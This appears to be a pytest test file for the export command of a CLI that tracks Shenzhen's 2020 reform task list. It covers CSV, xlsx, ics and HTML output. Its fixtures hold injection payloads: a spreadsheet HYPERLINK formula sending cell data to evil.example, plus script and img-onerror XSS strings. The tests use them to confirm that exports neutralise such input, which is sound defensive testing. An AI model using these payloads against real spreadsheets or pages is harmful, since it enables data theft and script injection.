"""szbiz export as a user meets it: files opened in Excel, a calendar, a browser."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import re
import shutil
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from szbiz.cli import app
from szbiz.load import load
from szbiz.model import TaskList

from .conftest import TASKS, no_traceback, run

AS_OF = ("--as-of", "2020-07-01")
HEADERS = [
    "序号",
    "所属领域",
    "改革措施",
    "牵头单位",
    "责任单位",
    "完成时限",
    "原完成时限",
    "状态",
    "红黄绿灯",
    "完成日期",
    "逾期天数",
    "剩余天数",
    "最近进展",
    "依据",
    "分工",
]
SCRIPT_TITLE = '<script>window.__pwned=1;document.title="pwned"</script>申领发票'
IMG_TITLE = '<img src="http://127.0.0.1:9/x.png" onerror="window.__pwned=2">'
HOSTILE = {
    1: '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    2: "+1 开办企业",
    3: "-2 压缩开办",
    4: "@x 秒批",
    5: SCRIPT_TITLE,
    6: IMG_TITLE,
}


@pytest.fixture(scope="module")
def bundled() -> TaskList:
    return load(TASKS).tasks


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    """The real list with titles an attacker might slip into a spreadsheet or a page."""
    text = TASKS.read_text(encoding="utf-8")
    for task_id, title in HOSTILE.items():
        head, sep, rest = text.partition(f"\n- id: {task_id}\n")
        assert sep, task_id
        # JSON's double-quoted string is a YAML double-quoted string too.
        line = f"  title: {json.dumps(title)}"
        rest = re.sub(r"^  title: .*$", lambda _, line=line: line, rest, count=1, flags=re.M)
        text = head + sep + rest
    path = tmp_path / "hostile.yaml"
    path.write_text(text, encoding="utf-8")
    return path


def export_bytes(*args: str) -> tuple[int, bytes, str]:
    """Run ``szbiz export`` in-process: exit code, stdout as bytes, stderr."""
    result = CliRunner().invoke(app, ["export", *args], catch_exceptions=False)
    return result.exit_code, result.stdout_bytes, result.stderr


def csv_rows(data: bytes) -> tuple[list[str], list[dict[str, str]]]:
    reader = csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    rows = list(reader)
    return list(reader.fieldnames or []), rows


# -- CSV ------------------------------------------------------------------------------------


def test_csv_opens_in_excel_with_the_documents_columns(tmp_path: Path, bundled: TaskList) -> None:
    out = tmp_path / "任务.csv"
    result = run("export", "-o", str(out), *AS_OF)
    assert (result.exit_code, result.stdout) == (0, "")
    assert result.stderr == f"wrote 210 tasks to {out}\n"
    data = out.read_bytes()
    assert data[:3] == b"\xef\xbb\xbf"  # without it Excel on Chinese Windows shows garbage
    assert data.count(b"\r\n") >= 211
    headers, rows = csv_rows(data)
    assert headers == HEADERS
    assert len(rows) == 210
    assert [int(r["序号"]) for r in rows] == list(range(1, 211))

    by_id = {int(r["序号"]): r for r in rows}
    for task in bundled.tasks:
        cells = by_id[task.id]
        assert cells["改革措施"] == task.measure
        assert cells["完成时限"] == task.deadline.isoformat()
    t171 = by_id[171]
    assert t171["所属领域"] == "强化知识产权创造保护和运用"
    assert t171["牵头单位"] == "市市场监管局"
    assert t171["责任单位"].endswith("、各区政府（新区管委会）等")
    (noted,) = [t for t in bundled.tasks if t.lead_note == "按职责分工负责"]
    assert by_id[noted.id]["牵头单位"].endswith("深圳供电局按职责分工负责")
    # As of 2020-07-01 task 1 (due 2020-01-31) is 152 days late; task 74 has 183 days left.
    assert (by_id[1]["状态"], by_id[1]["逾期天数"], by_id[1]["剩余天数"]) == ("逾期", "152", "")
    assert (by_id[74]["状态"], by_id[74]["逾期天数"], by_id[74]["剩余天数"]) == (
        "未开始",
        "",
        "183",
    )
    assert by_id[1]["红黄绿灯"] == "逾期未完成" and by_id[74]["红黄绿灯"] == "未到期"
    assert by_id[1]["完成日期"] == ""


def test_csv_neutralises_formulas(hostile: Path) -> None:
    code, data, _ = export_bytes("-f", "csv", "--tasks", str(hostile), *AS_OF)
    assert code == 0
    _, rows = csv_rows(data)
    by_id = {int(r["序号"]): r["改革措施"] for r in rows}
    for task_id in (1, 2, 3, 4):
        assert by_id[task_id].startswith("'" + HOSTILE[task_id] + "。")
    assert by_id[5].startswith("<script>")  # no formula: left as it is
    assert not by_id[7].startswith("'")
    # Nothing else in the file starts a formula either.
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_csv_to_stdout_is_bytes_with_bom() -> None:
    code, data, err = export_bytes("-f", "csv", "--ids", "7", *AS_OF)
    assert (code, err) == (0, "")
    assert data.startswith(b"\xef\xbb\xbf\xe5\xba\x8f\xe5\x8f\xb7,")  # BOM, then 序号
    _, rows = csv_rows(data)
    assert [r["序号"] for r in rows] == ["7"]


# -- Filters: the same as `szbiz list` ------------------------------------------------------


@pytest.mark.parametrize(
    ("args", "count"),
    [
        (("--agency", "swj", "--as-of", "2020-01-01"), 19),
        (("--agency", "swj", "--role", "lead", "--as-of", "2020-01-01"), 13),
        (("--status", "overdue", "--as-of", "2020-07-01"), 153),
        (("--area", "6", "--agency", "swj", "--due-before", "2020-03-31", *AS_OF), 1),
        (("--ids", "1-16,42", "--search", "发票 税控", *AS_OF), 4),
        (("--status", "todo", "--due-after", "2020-12", "--as-of", "2020-01-01"), 53),
    ],
)
def test_filters_work_as_for_list(args: tuple[str, ...], count: int) -> None:
    listed = run("list", *args, "-f", "ids").stdout.split()
    code, data, _ = export_bytes("-f", "csv", *args)
    assert code == 0
    _, rows = csv_rows(data)
    assert [r["序号"] for r in rows] == listed
    assert len(rows) == count


def test_sort_by_deadline() -> None:
    _, data, _ = export_bytes("-f", "csv", "--ids", "40-44", "--sort", "deadline", *AS_OF)
    assert [r["序号"] for r in csv_rows(data)[1]] == ["42", "44", "40", "41", "43"]


def test_json_is_what_list_json_gives() -> None:
    args = ("--agency", "swj", *AS_OF)
    code, data, _ = export_bytes("-f", "json", *args)
    assert code == 0
    assert data.decode("utf-8") == run("list", "--json", *args).stdout
    assert len(json.loads(data)) == 19


def test_markdown_has_a_heading_and_the_list_table() -> None:
    code, data, _ = export_bytes("-f", "md", "--ids", "7-8", *AS_OF)
    text = data.decode("utf-8")
    assert code == 0
    assert text.startswith("# 深圳市 2020 年优化营商环境改革重点任务清单 · 截至 2020-07-01\n\n")
    table = run("list", "--ids", "7-8", "-f", "md", *AS_OF).stdout
    assert text.endswith(table)


def test_no_match_still_writes_an_empty_document(tmp_path: Path) -> None:
    code, data, err = export_bytes("-f", "json", "--search", "不存在的词")
    assert (code, data, err) == (0, b"[]\n", "no tasks match\n")
    out = tmp_path / "none.csv"
    result = run("export", "-o", str(out), "--search", "不存在的词")
    assert result.stderr == f"wrote 0 tasks to {out}\n"
    assert csv_rows(out.read_bytes()) == (HEADERS, [])


# -- Writing: atomic, one-line errors -------------------------------------------------------


def test_format_comes_from_the_extension(tmp_path: Path) -> None:
    out = tmp_path / "swj.JSON"
    result = run("export", "-o", str(out), "--agency", "swj")
    assert result.exit_code == 0
    assert len(json.loads(out.read_text(encoding="utf-8"))) == 19


def test_no_format_and_no_output_is_a_usage_error() -> None:
    result = run("export", *AS_OF)
    assert (result.exit_code, result.stdout) == (2, "")
    assert result.stderr == (
        "error: give --format csv|xlsx|json|md|ics|html, "
        "or -o FILE ending in one of those extensions\n"
    )


def test_dash_means_stdout() -> None:
    code, data, err = export_bytes("-f", "json", "-o", "-", "--ids", "42", *AS_OF)
    assert (code, err) == (0, "")
    assert [t["id"] for t in json.loads(data)] == [42]


def test_a_directory_is_not_a_file(tmp_path: Path) -> None:
    result = run("export", "-f", "csv", "-o", str(tmp_path), *AS_OF)
    assert (result.exit_code, result.stderr) == (
        2,
        f"error: cannot write {tmp_path}: it is a directory\n",
    )


def test_missing_directory_is_one_line_and_exit_2(tmp_path: Path) -> None:
    out = tmp_path / "nope" / "out.csv"
    result = run("export", "-o", str(out), *AS_OF)
    assert result.exit_code == 2
    assert result.stderr == (
        f"error: cannot write {out}: the directory {out.parent} does not exist\n"
    )
    assert no_traceback(result.stderr)
    assert not out.parent.exists()


def test_a_failed_write_leaves_the_old_file_whole(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = tmp_path / "out.csv"
    old = "序号\r\n旧的内容\r\n".encode("utf-8-sig")
    out.write_bytes(old)

    def locked(src: object, dst: object) -> None:
        raise PermissionError(13, "Permission denied")  # as when Excel has the file open

    monkeypatch.setattr(os, "replace", locked)
    result = run("export", "-o", str(out), *AS_OF)
    monkeypatch.undo()
    assert result.exit_code == 1
    assert result.stderr == (
        f"error: cannot write {out}: permission denied (is it open in Excel or another program?)\n"
    )
    assert out.read_bytes() == old
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.csv"]  # no temporary file left


def test_rewriting_replaces_the_file(tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    out.write_bytes(b"old")
    assert run("export", "-o", str(out), "--ids", "1-3", *AS_OF).exit_code == 0
    assert len(csv_rows(out.read_bytes())[1]) == 3


def test_bad_filter_is_the_same_one_line_as_list() -> None:
    result = run("export", "-f", "csv", "--agency", "务局")
    expected = run("list", "--agency", "务局")
    assert (result.exit_code, result.stderr) == (2, expected.stderr)


# -- xlsx -----------------------------------------------------------------------------------


def test_xlsx_reads_back_with_dates_frozen_header_and_colours(
    tmp_path: Path, bundled: TaskList
) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    out = tmp_path / "tasks.xlsx"
    result = run("export", "-o", str(out), *AS_OF)
    assert (result.exit_code, result.stderr) == (0, f"wrote 210 tasks to {out}\n")
    sheet = openpyxl.load_workbook(out).active
    assert sheet.max_row == 211
    assert [c.value for c in sheet[1]] == HEADERS
    assert sheet.freeze_panes == "A2"
    deadline = HEADERS.index("完成时限") + 1
    cells = [sheet.cell(row=r, column=deadline) for r in range(2, 212)]
    assert all(isinstance(c.value, dt.datetime | dt.date) for c in cells)
    assert [c.value.date() for c in cells] == [t.deadline for t in bundled.tasks]
    assert {c.number_format for c in cells} == {"yyyy-mm-dd"}
    ids = [sheet.cell(row=r, column=1).value for r in range(2, 212)]
    assert ids == list(range(1, 211))
    # Status cells are filled by state: task 1 is overdue (red), task 74 not yet due.
    status = HEADERS.index("状态") + 1
    assert sheet.cell(row=2, column=status).value == "逾期"
    assert sheet.cell(row=2, column=status).fill.fgColor.rgb.endswith("FFC7CE")
    assert sheet.cell(row=75, column=status).fill.fgColor.rgb.endswith("F2F2F2")
    assert sheet.cell(row=2, column=3).alignment.wrap_text
    # CJK characters count double: the area column fits the longest area name.
    longest = max(len(a.name) for a in bundled.areas)
    assert sheet.column_dimensions["B"].width == 2 * longest + 2
    assert sheet.column_dimensions["C"].width > sheet.column_dimensions["A"].width


def test_xlsx_keeps_formula_text_as_text(tmp_path: Path, hostile: Path) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    out = tmp_path / "hostile.xlsx"
    assert run("export", "-o", str(out), "--tasks", str(hostile), *AS_OF).exit_code == 0
    sheet = openpyxl.load_workbook(out).active
    cell = sheet.cell(row=2, column=3)
    assert cell.data_type == "s"  # a string, not a formula
    assert cell.value.startswith(HOSTILE[1] + "。")
    assert cell.quotePrefix  # Excel shows it as typed text: '=HYPERLINK(…)


def test_xlsx_without_openpyxl_says_how_to_get_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(sys.modules, "openpyxl", None)  # as if it were not installed
    out = tmp_path / "tasks.xlsx"
    result = run("export", "-o", str(out), *AS_OF)
    assert result.exit_code == 1
    assert result.stderr == 'error: xlsx export needs openpyxl: pip install "szbiz[xlsx]"\n'
    assert not out.exists()


def test_xlsx_is_not_written_to_a_terminal(monkeypatch: pytest.MonkeyPatch) -> None:
    import szbiz.cli.export

    monkeypatch.setattr(szbiz.cli.export, "is_terminal", lambda: True)
    code, data, err = export_bytes("-f", "xlsx", *AS_OF)
    assert (code, data) == (2, b"")
    assert err == (
        "error: xlsx is binary and would garble the terminal; "
        "write it to a file with -o FILE.xlsx\n"
    )


def test_xlsx_to_a_pipe_is_the_workbook() -> None:
    pytest.importorskip("openpyxl")
    code, data, _ = export_bytes("-f", "xlsx", "--ids", "1-2", *AS_OF)
    assert code == 0 and data[:2] == b"PK"


# -- ics ------------------------------------------------------------------------------------


def _events(path: Path) -> list[Any]:
    from icalendar import Calendar

    return list(Calendar.from_ical(path.read_bytes()).walk("VEVENT"))


def test_ics_has_an_all_day_event_on_each_deadline(tmp_path: Path, bundled: TaskList) -> None:
    from icalendar import Calendar

    out = tmp_path / "tasks.ics"
    result = run("export", "-o", str(out), *AS_OF)
    assert result.stderr == f"wrote 210 tasks to {out}\n"
    calendar = Calendar.from_ical(out.read_bytes())
    assert str(calendar["X-WR-TIMEZONE"]) == "Asia/Shanghai"
    assert str(calendar["X-WR-CALNAME"]) == bundled.document.title
    events = list(calendar.walk("VEVENT"))
    assert len(events) == 210
    uids = [str(e["UID"]) for e in events]
    assert len(set(uids)) == 210
    deadlines = {t.id: t for t in bundled.tasks}
    for event in events:
        match = re.fullmatch(r"\[(\d+)\] (.+)", str(event["SUMMARY"]))
        assert match
        task = deadlines[int(match.group(1))]
        assert match.group(2) == task.title
        start, end = event["DTSTART"].dt, event["DTEND"].dt
        assert type(start) is dt.date and start == task.deadline  # all day, not a datetime
        assert end == task.deadline + dt.timedelta(days=1)
        assert str(event["UID"]) == f"szbiz-2020-task-{task.id}@{uids[0].split('@')[1]}"
        assert str(event["TRANSP"]) == "TRANSPARENT"
    first = events[0]
    text = str(first["DESCRIPTION"])
    assert text.startswith(bundled.tasks[0].measure)
    assert "牵头单位：市市场监管局" in text and "状态：逾期" in text
    assert "市政务服务数据管理局、市税务局" in text
    assert first["DTSTAMP"].dt == dt.datetime(2020, 6, 30, 16, tzinfo=dt.UTC)  # 07-01 in Shanghai


def test_ics_takes_a_deadline_on_the_last_supported_day(tmp_path: Path) -> None:
    from icalendar import Calendar

    text = TASKS.read_text(encoding="utf-8").replace(
        "deadline: 2020-01-31", "deadline: 2999-12-31", 1
    )
    tasks = tmp_path / "tasks.yaml"
    tasks.write_text(text, encoding="utf-8")
    out = tmp_path / "tasks.ics"
    result = run("export", "-o", str(out), "--tasks", str(tasks), "--as-of", "2999-12-31")
    assert (result.exit_code, result.stderr) == (0, f"wrote 210 tasks to {out}\n")
    events = Calendar.from_ical(out.read_bytes()).walk("VEVENT")
    last = [e for e in events if e["DTSTART"].dt == dt.date(2999, 12, 31)]
    assert [e["DTEND"].dt for e in last] == [dt.date(3000, 1, 1)]  # one whole day


def test_ics_uids_are_stable_so_reimporting_updates(tmp_path: Path) -> None:
    one, two, three = tmp_path / "1.ics", tmp_path / "2.ics", tmp_path / "3.ics"
    run("export", "-o", str(one), *AS_OF)
    run("export", "-o", str(two), *AS_OF)
    run("export", "-o", str(three), "--as-of", "2020-09-01")
    assert one.read_bytes() == two.read_bytes()  # the same day gives the same bytes
    uids = [str(e["UID"]) for e in _events(one)]
    assert [str(e["UID"]) for e in _events(three)] == uids
    swj = tmp_path / "swj.ics"
    run("export", "-o", str(swj), "--agency", "swj", *AS_OF)
    mine = [str(e["UID"]) for e in _events(swj)]
    assert len(mine) == 19 and set(mine) <= set(uids)


def test_ics_sequence_grows_when_progress_is_recorded(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SZBIZ_PROGRESS", str(tmp_path / "progress.yaml"))
    before, after = tmp_path / "before.ics", tmp_path / "after.ics"
    run("export", "-o", str(before), *AS_OF)
    assert run("done", "42", "--on", "2020-06-20", *AS_OF).exit_code == 0
    run("export", "-o", str(after), *AS_OF)
    old = {str(e["UID"]): e for e in _events(before)}
    new = {str(e["UID"]): e for e in _events(after)}
    changed = [u for u in new if int(new[u]["SEQUENCE"]) != int(old[u]["SEQUENCE"])]
    assert changed == [u for u in new if "-task-42@" in u]
    assert int(new[changed[0]]["SEQUENCE"]) > int(old[changed[0]]["SEQUENCE"]) == 0
    assert "LAST-MODIFIED" in new[changed[0]] and "LAST-MODIFIED" not in old[changed[0]]


# -- html in a real browser -----------------------------------------------------------------

CHROMIUM = Path("/usr/bin/chromium")
FLAGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--no-first-run",
    "--disable-sync",
]


def _need(what: str) -> None:
    if os.environ.get("CI"):
        pytest.fail(f"{what} is missing; CI must have it (see .ci/run)")
    pytest.skip(f"{what} is not installed")


@pytest.fixture(scope="module")
def browser_context(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Any]:
    """Debian's Chromium, headless, with a fresh profile, driven by Playwright."""
    chromium = shutil.which("chromium") or (str(CHROMIUM) if CHROMIUM.exists() else None)
    if chromium is None:
        _need("chromium (apt-get install chromium)")
    try:
        from playwright.sync_api import sync_playwright
    except ImportError:
        _need("playwright (pip install -e '.[test]')")
    with sync_playwright() as p:
        context = p.chromium.launch_persistent_context(
            str(tmp_path_factory.mktemp("chromium-profile")),
            executable_path=chromium,
            headless=True,
            args=FLAGS,
            viewport={"width": 1280, "height": 900},
        )
        context.set_default_timeout(10_000)
        try:
            yield context
        finally:
            context.close()


class Visit:
    """A page opened from a file, with every console error, page error and request seen."""

    def __init__(self, context: Any, path: Path) -> None:
        self.errors: list[str] = []
        self.requests: list[str] = []
        self.url = path.resolve().as_uri()
        self.page = context.new_page()
        self.page.on("console", lambda m: self.errors.append(m.text) if m.type == "error" else None)
        self.page.on("pageerror", lambda exc: self.errors.append(str(exc)))
        self.page.on("request", lambda r: self.requests.append(r.url))
        self.page.goto(self.url, wait_until="load")

    def visible_rows(self) -> int:
        return int(self.page.locator("#tasks tbody tr:not([hidden])").count())


@pytest.mark.slow
def test_html_shows_hostile_titles_as_text_and_runs_nothing(
    tmp_path: Path, hostile: Path, browser_context: Any
) -> None:
    out = tmp_path / "hostile.html"
    assert run("export", "-o", str(out), "--tasks", str(hostile), *AS_OF).exit_code == 0
    visit = Visit(browser_context, out)
    page = visit.page
    try:
        assert page.evaluate("typeof window.__pwned") == "undefined"
        assert page.title() == "深圳市 2020 年优化营商环境改革重点任务清单 · 截至 2020-07-01"
        body = page.inner_text("body")
        assert SCRIPT_TITLE in body and IMG_TITLE in body
        assert page.locator("#tasks script, #tasks img").count() == 0
        assert visit.errors == []
        assert visit.requests == [visit.url]  # nothing from the network, not even the <img>
    finally:
        page.close()


@pytest.mark.slow
def test_html_page_is_drawn_and_its_filters_work(tmp_path: Path, browser_context: Any) -> None:
    from PIL import Image

    out = tmp_path / "tasks.html"
    assert run("export", "-o", str(out), *AS_OF).exit_code == 0
    visit = Visit(browser_context, out)
    page = visit.page
    try:
        shot = page.screenshot()
        colours = Image.open(io.BytesIO(shot)).convert("RGB").getcolors(maxcolors=1 << 24)
        assert colours is not None and len(colours) > 50  # charts and text, not a blank page
        assert page.locator("svg rect").count() > 14
        assert visit.visible_rows() == 210
        assert page.inner_text("#shown") == "210"

        page.select_option("#f-agency", "市税务局")
        assert visit.visible_rows() == 19
        page.select_option("#f-role", "lead")
        assert visit.visible_rows() == 13
        page.click("#f-reset")
        assert visit.visible_rows() == 210

        page.select_option("#f-light", "overdue")
        assert visit.visible_rows() == 153  # as `szbiz list --status overdue`
        page.click("#f-reset")
        page.select_option("#f-status", "todo")
        assert visit.visible_rows() == 210  # nothing recorded yet: every task is todo
        page.select_option("#f-status", "blocked")
        assert visit.visible_rows() == 0
        page.click("#f-reset")
        page.fill("#f-text", "税控")
        assert visit.visible_rows() == len(
            run("list", "--search", "税控", "-f", "ids").stdout.split()
        )
        page.click("#f-reset")

        page.click('svg .area[data-area="10"]')  # a bar of the area chart picks its area
        assert page.input_value("#f-area") == "10"
        assert visit.visible_rows() == 6
        page.select_option("#f-area", "")
        page.select_option("#f-agency", "深圳海关")
        page.select_option("#f-light", "done_late")
        assert visit.visible_rows() == 0
        assert page.is_visible("#empty")

        assert visit.errors == []
        assert visit.requests == [visit.url]
    finally:
        page.close()


def test_html_is_one_self_contained_file(tmp_path: Path) -> None:
    code, data, _ = export_bytes("-f", "html", "--agency", "swj", *AS_OF)
    text = data.decode("utf-8")
    assert code == 0
    assert text.startswith('<!DOCTYPE html>\n<html lang="zh-CN">\n<head>\n<meta charset="utf-8">')
    assert not re.search(r"""(src|href)\s*=\s*["']?(https?:)?//""", text)
    assert "@import" not in text and "url(" not in text
    assert "<h1>深圳市 2020 年优化营商环境改革重点任务清单 · 市税务局</h1>" in text


# -- Progress: what done, late and dropped tasks look like ----------------------------------


@pytest.fixture(scope="module")
def progressed(bundled: TaskList) -> Any:
    """The renderers' input with some history: done on time, done late, dropped, blocked."""
    from szbiz.model import Event, History, Status
    from szbiz.query import views
    from szbiz.render.export import Export

    at = dt.datetime(2020, 7, 1, 1, tzinfo=dt.UTC)
    history = History(
        (
            Event(1, Status.DONE, dt.date(2020, 1, 20), "张三", at, "已上线", "深府办〔2020〕18号"),
            Event(2, Status.DONE, dt.date(2020, 3, 5), "李四", at, "晚了"),
            Event(3, Status.DROPPED, dt.date(2020, 2, 1), "王五", at, "并入第 2 项"),
            Event(4, Status.BLOCKED, dt.date(2020, 6, 1), "王五", at, "等上级批复"),
            Event(74, Status.BLOCKED, dt.date(2020, 6, 1), "王五", at, "等财政部答复"),
        )
    )
    day = dt.date(2020, 7, 1)
    chosen = [v for v in views(bundled, history, day) if v.task.id in (1, 2, 3, 4, 5, 74)]
    return Export(bundled, tuple(chosen), day, history)


def test_renderers_show_progress(progressed: Any) -> None:
    from icalendar import Calendar

    from szbiz.render.export import EXPORTS

    rows = {int(r["序号"]): r for r in csv_rows(EXPORTS["csv"](progressed))[1]}
    cells = ("状态", "红黄绿灯", "完成日期", "逾期天数", "剩余天数", "最近进展", "依据")
    shown = {i: tuple(rows[i][c] for c in cells) for i in rows}
    assert shown[1] == ("已完成", "按时完成", "2020-01-20", "", "", "已上线", "深府办〔2020〕18号")
    assert shown[2] == ("已完成(逾期)", "逾期完成", "2020-03-05", "34", "", "晚了", "")
    assert shown[3] == ("已取消", "已取消", "", "", "", "并入第 2 项", "")
    assert shown[4] == (
        "受阻·逾期",
        "逾期未完成",
        "",
        "1",
        "",
        "等上级批复",
        "",
    )  # blocked, and late
    assert shown[5][:4] == ("逾期", "逾期未完成", "", "152")
    assert shown[74] == ("受阻", "未到期", "", "", "183", "等财政部答复", "")

    events = {
        str(e["SUMMARY"]).split("]")[0]: e
        for e in Calendar.from_ical(EXPORTS["ics"](progressed)).walk("VEVENT")
    }
    assert str(events["[3"]["STATUS"]) == "CANCELLED"
    assert "完成日期：2020-01-20" in str(events["[1"]["DESCRIPTION"])
    assert "依据：深府办〔2020〕18号" in str(events["[1"]["DESCRIPTION"])

    page = EXPORTS["html"](progressed).decode("utf-8")
    assert 'fill="#2e7d32"><title>按时完成 1</title>' in page
    assert 'fill="#1565c0"><title>逾期完成 1</title>' in page


def test_xlsx_colours_follow_progress(progressed: Any) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    from szbiz.render.export import EXPORTS

    sheet = openpyxl.load_workbook(io.BytesIO(EXPORTS["xlsx"](progressed))).active
    status = HEADERS.index("状态") + 1
    fills = [sheet.cell(row=r, column=status).fill.fgColor.rgb[-6:] for r in range(2, 8)]
    assert fills == ["C6EFCE", "DDEBF7", "D9D9D9", "FFC7CE", "FFC7CE", "F2F2F2"]
    done = sheet.cell(row=2, column=HEADERS.index("完成日期") + 1)
    assert done.value.date() == dt.date(2020, 1, 20) and done.number_format == "yyyy-mm-dd"
    assert sheet.cell(row=3, column=HEADERS.index("逾期天数") + 1).value == 34
